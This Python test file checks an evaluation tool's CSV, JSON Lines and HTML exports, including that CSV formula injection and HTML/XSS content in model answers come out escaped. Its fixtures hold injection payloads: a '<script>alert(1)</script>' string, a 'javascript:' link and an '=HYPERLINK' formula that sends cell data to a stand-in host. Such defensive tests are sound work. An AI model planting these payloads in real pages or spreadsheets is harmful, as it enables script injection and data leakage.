"""A run's exports as their real readers see them: CSV through the csv module and pandas, JSON Lines line by line,
and the HTML report through a real HTML parser (nothing loads or runs; an answer's <script> stays text)."""

from __future__ import annotations

import csv
import io
import json
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest

from services.eval_export import ExportError, to_csv, to_html, to_jsonl
from services.eval_matrix import iter_matrix
from services.eval_model import CellResult, EvaluatorSpec, Verdict
from services.prompt_model import Prompt, PromptMessage, PromptParameters
from services.store.evals import EvalStore

TRACE = "0123456789abcdef0123456789abcdef"
SCRIPT = "<script>alert(1)</script> Lyon"
COMMA_NEWLINE = 'Paris, France.\nIt is "the" capital.'
PROMPT = Prompt(
    name="capitals",
    parameters=PromptParameters(temperature=0.3),
    messages=[
        PromptMessage(role="system", content="Answer in one word & be <brief>."),
        PromptMessage(role="user", content="{{question}}"),
    ],
)
ROWS = [
    {"question": "Capital of France?", "expected": "Paris"},
    {"question": 'Say "hi", then\nstop', "expected": "hi"},
    {"question": "<b>bold</b>", "expected": "x"},
]
SPECS = [EvaluatorSpec("contains", "has-expected", {"text": "{{expected}}"}), EvaluatorSpec("similarity", "close")]


@pytest.fixture
def store(tmp_path: Path) -> EvalStore:
    return EvalStore(tmp_path / "evals.sqlite")


def _make_run(store: EvalStore) -> str:
    run_id = store.create_run(
        name="capitals <v2>",
        prompt=PROMPT,
        dataset_name="capitals.csv",
        dataset_digest="sha256:feedbeef",
        rows=ROWS,
        deployments=["gpt-a", "gpt-b"],
        overrides={"gpt-b": {"temperature": 0.2}},
        evaluators=SPECS,
    )
    passed = [Verdict("has-expected", True, reason="found 'Paris'"), Verdict("close", None, 0.91, "cosine 0.91")]
    store.save_cell(
        run_id,
        CellResult(0, "gpt-a", answer=COMMA_NEWLINE, latency_s=0.5, input_tokens=10, output_tokens=5, cost=0.0001,
                   trace_id=TRACE, verdicts=passed),
    )  # fmt: skip
    store.save_cell(
        run_id,
        CellResult(0, "gpt-b", answer=SCRIPT, latency_s=1.5, input_tokens=10, output_tokens=7,
                   verdicts=[Verdict("has-expected", False, reason="'Paris' not found"), Verdict("close", None, 0.2)]),
    )  # fmt: skip
    store.save_cell(
        run_id,
        CellResult(1, "gpt-a", error="The request was rejected\\. HTTP 422: bad `temperature`", error_type="Invalid",
                   latency_s=0.1),
    )  # fmt: skip
    store.save_cell(run_id, CellResult(1, "gpt-b", answer='He said "hi", ok', latency_s=0.7, verdicts=passed))
    store.save_cell(run_id, CellResult(2, "gpt-a", answer="**bold** [x](javascript:alert(1))", verdicts=passed))
    return run_id  # (2, gpt-b) is not stored: the run is still going


def test_csv_has_one_line_per_stored_cell_that_csv_and_pandas_read_back(store: EvalStore) -> None:
    text = to_csv(store, _make_run(store))
    lines = list(csv.DictReader(io.StringIO(text)))
    assert [(int(line["row_index"]), line["deployment"]) for line in lines] == [
        (0, "gpt-a"), (0, "gpt-b"), (1, "gpt-a"), (1, "gpt-b"), (2, "gpt-a"),
    ]  # fmt: skip
    first, script, error = lines[0], lines[1], lines[2]
    assert first["answer"] == COMMA_NEWLINE and first["question"] == "Capital of France?"
    assert first["trace_id"] == TRACE and first["passed"] == "true" and first["has-expected passed"] == "true"
    assert first["close score"] == "0.91" and first["close passed"] == "" and first["close reason"] == "cosine 0.91"
    assert script["answer"] == SCRIPT and script["passed"] == "false"
    assert script["has-expected reason"] == "'Paris' not found"
    assert error["answer"] == "" and error["error_type"] == "Invalid" and "HTTP 422" in error["error"]
    assert error["passed"] == "" and error["has-expected passed"] == ""
    assert lines[3]["question"] == 'Say "hi", then\nstop'

    frame = pd.read_csv(io.StringIO(text))
    assert frame.shape == (5, len(lines[0]))
    assert frame.loc[0, "answer"] == COMMA_NEWLINE and frame.loc[1, "answer"] == SCRIPT
    assert frame["latency_s"].dtype == "float64" and frame["latency_s"].tolist()[:2] == [0.5, 1.5]
    assert frame.loc[0, "input_tokens"] == 10 and pd.isna(frame.loc[2, "answer"])
    assert frame["passed"].tolist()[:2] == [True, False] and pd.isna(frame.loc[2, "passed"])


def test_csv_writes_formula_like_text_as_text_and_leaves_numbers_alone(store: EvalStore) -> None:
    run_id = store.create_run(
        name="formulas",
        prompt=PROMPT,
        dataset_name="f.csv",
        dataset_digest="sha256:0",
        rows=[{"question": "@SUM(A1:A9)", "expected": "-1"}],
        deployments=["gpt-a"],
        overrides={},
        evaluators=[EvaluatorSpec("contains", "=cmd", {"text": "x"})],
    )
    answer = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
    store.save_cell(
        run_id,
        CellResult(0, "gpt-a", answer=answer, latency_s=0.25, output_tokens=3,
                   verdicts=[Verdict("=cmd", False, reason="+not found")]),
    )  # fmt: skip
    line = next(csv.DictReader(io.StringIO(to_csv(store, run_id))))
    assert line["answer"] == "'" + answer and line["question"] == "'@SUM(A1:A9)" and line["expected"] == "'-1"
    assert line["'=cmd passed"] == "false" and line["'=cmd reason"] == "'+not found"
    assert line["latency_s"] == "0.25" and line["output_tokens"] == "3"


def test_jsonl_is_one_json_object_per_cell_with_row_figures_and_verdicts(store: EvalStore) -> None:
    text = to_jsonl(store, _make_run(store))
    assert text.endswith("\n")
    items = [json.loads(line) for line in text.splitlines()]
    assert len(items) == 5
    first = items[0]
    assert first["row"] == ROWS[0] and first["row_index"] == 0 and first["deployment"] == "gpt-a"
    assert first["answer"] == COMMA_NEWLINE and first["trace_id"] == TRACE and first["passed"] is True
    assert (first["latency_s"], first["input_tokens"], first["output_tokens"], first["cost"]) == (0.5, 10, 5, 0.0001)
    assert first["verdicts"] == [
        {"evaluator": "has-expected", "passed": True, "score": None, "reason": "found 'Paris'"},
        {"evaluator": "close", "passed": None, "score": 0.91, "reason": "cosine 0.91"},
    ]
    assert items[1]["answer"] == SCRIPT and items[1]["passed"] is False
    error = items[2]
    assert error["answer"] is None and error["error_type"] == "Invalid" and error["verdicts"] == []
    assert error["passed"] is None and error["row"] == ROWS[1]


class _Page(HTMLParser):
    """Every start tag with its attributes, and the text between tags as a browser would show it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _parse(text: str) -> _Page:
    page = _Page()
    page.feed(text)
    page.close()
    return page


def test_html_report_is_self_contained_and_shows_the_run_escaped(store: EvalStore) -> None:
    text = to_html(store, _make_run(store))
    page = _parse(text)
    names = [tag for tag, _ in page.tags]
    assert "script" not in names and "link" not in names and "img" not in names and "iframe" not in names
    assert not [attrs for _, attrs in page.tags if {"src", "href", "srcset", "action"} & set(attrs)]
    assert not [attrs for _, attrs in page.tags if any(k.startswith("on") for k in attrs)]
    csp = [attrs["content"] for tag, attrs in page.tags if tag == "meta" and attrs.get("http-equiv")]
    assert csp and "default-src 'none'" in str(csp[0])
    assert names.count("style") == 1

    shown = "".join(page.text)
    assert SCRIPT in shown and "&lt;script&gt;alert(1)&lt;/script&gt;" in text and "<script>" not in text
    assert "Evaluation: capitals <v2>" in shown and "<v2>" not in text  # the run's name is escaped too
    assert "Answer in one word & be <brief>." in shown and "{{question}}" in shown  # the prompt
    assert "capitals.csv" in shown and "sha256:feedbeef" in shown and '"temperature": 0.2' in shown
    assert '"temperature": 0.3' in shown and '"extra"' not in shown  # the prompt's own parameters, none empty
    assert '"text": "{{expected}}"' in shown and "similarity" in shown  # the evaluators' settings
    assert "**bold** [x](javascript:alert(1))" in shown  # markdown stays text
    assert "HTTP 422: bad `temperature`" in shown and "rejected. HTTP" in shown  # the error's words, unescaped
    assert "not run yet" in shown and TRACE in shown and "'Paris' not found" in shown

    summary = _table_after(text, "Summary per deployment")
    assert summary[0][:5] == ["Deployment", "Calls", "Errors", "Failures", "all checks pass %"]
    assert "has-expected pass %" in summary[0] and "close mean score" in summary[0]
    by_name = {line[0]: dict(zip(summary[0], line, strict=True)) for line in summary[1:]}
    assert by_name["gpt-a"]["Calls"] == "3" and by_name["gpt-a"]["Errors"] == "1"
    assert by_name["gpt-a"]["Failures"] == "0" and by_name["gpt-a"]["has-expected pass %"] == "100.0%"
    assert by_name["gpt-b"]["Failures"] == "1" and by_name["gpt-b"]["has-expected pass %"] == "50.0%"
    assert by_name["gpt-b"]["close mean score"] == "0.56" and by_name["gpt-a"]["p95 latency (s)"] == "0.500"

    matrix = _table_after(text, "Results: rows × deployments")
    assert matrix[0] == ["#", "question", "expected", "gpt-a", "gpt-b"] and len(matrix) == 4
    assert matrix[1][3].startswith("✓") and matrix[1][4].startswith("✗") and matrix[2][3].startswith("⚠")


def _table_after(text: str, heading: str) -> list[list[str]]:
    """The first table after `heading`, as its rows of cell texts."""

    class Table(HTMLParser):
        def __init__(self) -> None:
            super().__init__(convert_charrefs=True)
            self.rows: list[list[str]] = []
            self.depth = 0
            self.cell: list[str] | None = None

        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            if tag == "table":
                self.depth += 1
            elif tag == "tr" and self.depth == 1:
                self.rows.append([])
            elif tag in ("td", "th") and self.depth == 1:
                self.cell = []

        def handle_endtag(self, tag: str) -> None:
            if tag == "table":
                self.depth -= 1
            elif tag in ("td", "th") and self.cell is not None and self.depth == 1:
                self.rows[-1].append("".join(self.cell).strip())
                self.cell = None

        def handle_data(self, data: str) -> None:
            if self.cell is not None:
                self.cell.append(data)

    start = text.index(heading)
    table = Table()
    table.feed(text[text.index("<table", start) : text.index("</table>", start) + len("</table>")])
    return table.rows


def test_exports_page_through_a_run_larger_than_one_read(store: EvalStore) -> None:
    rows = [{"n": str(i)} for i in range(450)]
    run_id = store.create_run(
        name="big", prompt=PROMPT, dataset_name="n.csv", dataset_digest="sha256:1", rows=rows, deployments=["a", "b"]
    )
    for index in range(450):
        store.save_cell(run_id, CellResult(index, "a", answer=f"a{index}"))
        if index % 3:
            store.save_cell(run_id, CellResult(index, "b", answer=f"b{index}"))
    record = store.load_run(run_id)
    assert record is not None
    seen = list(iter_matrix(store, record, page_rows=64))
    assert [row.index for row in seen] == list(range(450)) and [row.values["n"] for row in seen][-1] == "449"
    assert all(row.cells["a"].answer == f"a{row.index}" for row in seen)
    assert [row.index for row in seen if "b" not in row.cells] == list(range(0, 450, 3))
    lines = [json.loads(line) for line in to_jsonl(store, run_id).splitlines()]
    assert len(lines) == 450 + 300 and lines[-1]["answer"] == "b449" and lines[-2]["answer"] == "a449"
    assert len(list(csv.DictReader(io.StringIO(to_csv(store, run_id))))) == 750
    assert to_html(store, run_id).count("not run yet") == 150


def test_an_unknown_run_cannot_be_exported(store: EvalStore) -> None:
    with pytest.raises(ExportError, match="No evaluation run"):
        to_csv(store, "x" * 22)
